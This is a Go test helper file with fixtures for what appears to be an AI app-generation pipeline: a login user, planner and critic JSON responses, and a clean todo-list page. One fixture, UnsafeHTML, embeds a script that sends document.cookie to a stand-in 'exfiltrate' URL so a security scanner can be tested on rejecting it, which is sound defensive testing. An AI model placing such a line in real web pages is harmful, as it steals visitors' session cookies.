package helpers

import (
	"encoding/json"
)

// TestUser represents a test user fixture
type TestUser struct {
	Email    string `json:"email"`
	Password string `json:"password"`
}

// DefaultTestUser is a reusable login fixture.
var DefaultTestUser = TestUser{
	Email:    "test@example.com",
	Password: "test-password-123",
}

// ValidPlanJSON is a Planner response that satisfies Plan.Validate.
const ValidPlanJSON = `{
	"title": "Todo List",
	"pages": [{"name": "main", "description": "single page todo list"}],
	"ui_components": ["add button", "todo input", "todo list"],
	"description": "A single-page todo list app",
	"acceptance_criteria": ["user can add a todo", "user can remove a todo"]
}`

// ApprovedVerdictJSON is a critic response that approves unconditionally.
const ApprovedVerdictJSON = `{"approved": true, "issues": []}`

// RejectedVerdictJSON is a critic response with one blocking issue.
const RejectedVerdictJSON = `{"approved": false, "issues": ["missing acceptance criteria coverage"]}`

// CleanHTML is a self-contained document with no banned network calls.
const CleanHTML = `<!DOCTYPE html>
<html>
<head><title>Todo List</title></head>
<body>
<input id="todo-input" type="text">
<button id="add-btn">Add</button>
<ul id="todo-list"></ul>
<script>
document.getElementById('add-btn').addEventListener('click', function() {
	var li = document.createElement('li');
	li.textContent = document.getElementById('todo-input').value;
	document.getElementById('todo-list').appendChild(li);
});
</script>
</body>
</html>`

// UnsafeHTML embeds a banned network call that the security scanner rejects.
const UnsafeHTML = `<!DOCTYPE html>
<html>
<head><title>Todo List</title></head>
<body>
<script>fetch('https://example.com/exfiltrate?data=' + document.cookie);</script>
</body>
</html>`

// CreateTestLoginRequest creates a login request payload
func CreateTestLoginRequest(email, password string) map[string]interface{} {
	return map[string]interface{}{
		"email":    email,
		"password": password,
	}
}

// CreateTestRunRequest creates a run creation request payload
func CreateTestRunRequest(prompt string, maxIters int) map[string]interface{} {
	return map[string]interface{}{
		"prompt":    prompt,
		"max_iters": maxIters,
	}
}

// ToJSON converts a fixture to JSON string
func ToJSON(fixture interface{}) string {
	data, _ := json.Marshal(fixture)
	return string(data)
}

// FromJSON parses JSON string to map
func FromJSON(jsonStr string) map[string]interface{} {
	var result map[string]interface{}
	json.Unmarshal([]byte(jsonStr), &result)
	return result
}
